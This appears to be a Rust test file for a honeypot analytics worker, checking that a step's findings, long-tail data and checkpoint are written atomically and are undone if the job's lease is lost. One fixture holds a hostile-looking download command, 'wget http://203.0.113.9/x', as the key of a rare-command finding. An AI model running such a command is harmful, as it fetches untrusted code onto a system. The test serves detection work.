//! A step is written whole, or not at all.

use chrono::{DateTime, TimeDelta, Utc};
use findings::{Detector, Finding, Kind, Severity};
use serde_json::json;
use servers::testing::eventually;
use store::{analyses::DataRange, analyses::longtail::LongtailPart, jobs::Progress};
use worker::{ApplyError, Backend, LongtailDay, LongtailModel, LongtailRun, Step};

use crate::site::{Site, diagnostic};

/// One row of each table that a step writes.
const EVERYTHING: &str = "1|1|1|1|1|1|1|1|50";
const NOTHING: &str = "0|0|0|0|0|0|0|0|0";

fn start_of_day() -> DateTime<Utc> {
    DateTime::from_timestamp(1_700_006_400, 0).unwrap()
}

fn finding() -> Finding {
    Finding {
        kind: Kind::Longtail,
        rule: Detector::RareCommand.into(),
        key: "wget http://203.0.113.9/x".into(),
        title: "A rare command".into(),
        severity: Severity::Medium,
        confidence: 0.8,
        first_seen: start_of_day().timestamp_micros(),
        last_seen: start_of_day().timestamp_micros(),
        sensor: Some("fra".into()),
        evidence: json!({ "sessions": 1 }),
        sources: vec!["203.0.113.7".into()],
        sessions: vec![("fra".into(), "0123456789ab".into())],
    }
}

/// A step that writes into every table that a step can write into.
fn whole_step() -> Step {
    let from = start_of_day();
    let range = DataRange { from, to: from + TimeDelta::days(1), sensor: None };
    Step {
        checkpoint: Some(json!({ "step": 1 })),
        progress: Some(Progress { percent: 50.0, step: "half".into(), ..Progress::default() }),
        findings: vec![finding()],
        longtail_day: Some(LongtailDay {
            range: range.clone(),
            version: 1,
            part: LongtailPart { from_at: from, digest: vec![1, 2], sessions: 1, part: vec![3] },
        }),
        longtail_run: Some(LongtailRun {
            range,
            version: 1,
            threshold: 0.7,
            scores: vec![(("fra".into(), "0123456789ab".into()), 0.9)],
            model: Some(LongtailModel { id: "m".into(), bytes: vec![4] }),
        }),
        diagnostic_step: Some(0),
    }
}

/// Rows of each table, whether there is a checkpoint, and the progress.
fn written(site: &Site) -> String {
    site.psql(
        "select (select count(*) from findings), (select count(*) from finding_sessions),
            (select count(*) from outbox), (select count(*) from longtail_parts),
            (select count(*) from longtail_scores), (select count(*) from longtail_models),
            (select count(*) from diagnostic_steps), count(checkpoint), max(progress_percent)::int from jobs",
    )
}

async fn site_with_session() -> Site {
    let site = Site::start(false).await;
    site.psql(&format!(
        "insert into sessions (sensor, session, started_at, event_count, login_attempts, login_successes,
            command_count, download_count, upload_count, forward_count, bytes)
        values ('fra', '0123456789ab', '{}', 1, 0, 0, 1, 0, 0, 0, 100)",
        start_of_day().to_rfc3339()
    ));
    site
}

#[tokio::test(flavor = "multi_thread")]
async fn a_step_is_written_whole_or_not_at_all() {
    let site = site_with_session().await;
    let claimed = site.claim("diagnostic", &diagnostic(3, 0.0)).await;
    let backend = Backend::for_attempt(site.store.clone(), &claimed, "tester");
    let step = whole_step();
    for (lost, regained) in [
        ("lease_until = now() - interval '1 second'", "lease_until = now() + interval '1 hour'"),
        ("attempt = attempt + 1", "attempt = attempt - 1"),
        ("state = 'retrying'", "state = 'in_progress'"),
    ] {
        site.psql(&format!("update jobs set {lost}"));
        let refused = backend.apply(&step).await;
        assert!(matches!(refused, Err(ApplyError::LeaseLost)), "{lost}: {refused:?}");
        assert_eq!(written(&site), NOTHING, "{lost}");
        site.psql(&format!("update jobs set {regained}"));
    }
    let applied = backend.apply(&step).await.unwrap();
    assert_eq!((applied.findings.new, applied.status.unwrap().progress_percent), (1, 50.0));
    assert_eq!(written(&site), EVERYTHING);

    // A step of a diagnostic job is stored once. What else is in the second one is not written.
    let again = Step { checkpoint: Some(json!({ "step": 7 })), ..whole_step() };
    assert!(matches!(backend.apply(&again).await, Err(ApplyError::Repeated(0))));
    assert_eq!(site.psql("select checkpoint ->> 'step' from jobs"), "1");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lease_that_is_lost_while_a_step_is_written_undoes_the_step() {
    let site = site_with_session().await;
    let claimed = site.claim("diagnostic", &diagnostic(3, 0.0)).await;
    let backend = Backend::for_attempt(site.store.clone(), &claimed, "tester");
    // Stops the step after its findings and before the check of the lease.
    let mut lock = site.store.begin().await.unwrap();
    store::analyses::longtail::put_model(&mut lock, &whole_step().longtail_run.unwrap().range, 1, "m", &[9])
        .await
        .unwrap();
    let applying = {
        let step = whole_step();
        async move { backend.apply(&step).await }
    };
    let taking_over = async {
        let url = site.store.url().to_owned();
        let waits = move || {
            eventually("the step waits for the model's row", || {
                servers::testing::psql(&url, "select count(*) from pg_locks where not granted").trim() == "1"
            });
        };
        tokio::task::spawn_blocking(waits).await.unwrap();
        site.psql("update jobs set lease_until = now() - interval '1 second'");
        lock.rollback().await.unwrap();
    };
    let (applied, ()) = tokio::join!(applying, taking_over);
    assert!(matches!(applied, Err(ApplyError::LeaseLost)), "{applied:?}");
    assert_eq!(written(&site), NOTHING);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_step_that_was_sent_as_json_writes_the_same() {
    let step = whole_step();
    let sent: Step = serde_json::from_str(&serde_json::to_string(&step).unwrap()).unwrap();
    assert_eq!(sent, step);
    assert_eq!(serde_json::from_str::<Step>("{}").unwrap(), Step::default());

    // Without a job there is no lease, and no row of a job.
    let site = site_with_session().await;
    Backend::without_job(site.store.clone()).apply(&sent).await.unwrap();
    assert_eq!(
        site.psql(
            "select count(*), (select count(*) from longtail_models), (select count(*) from jobs)
            from findings"
        ),
        "1|1|0"
    );
}
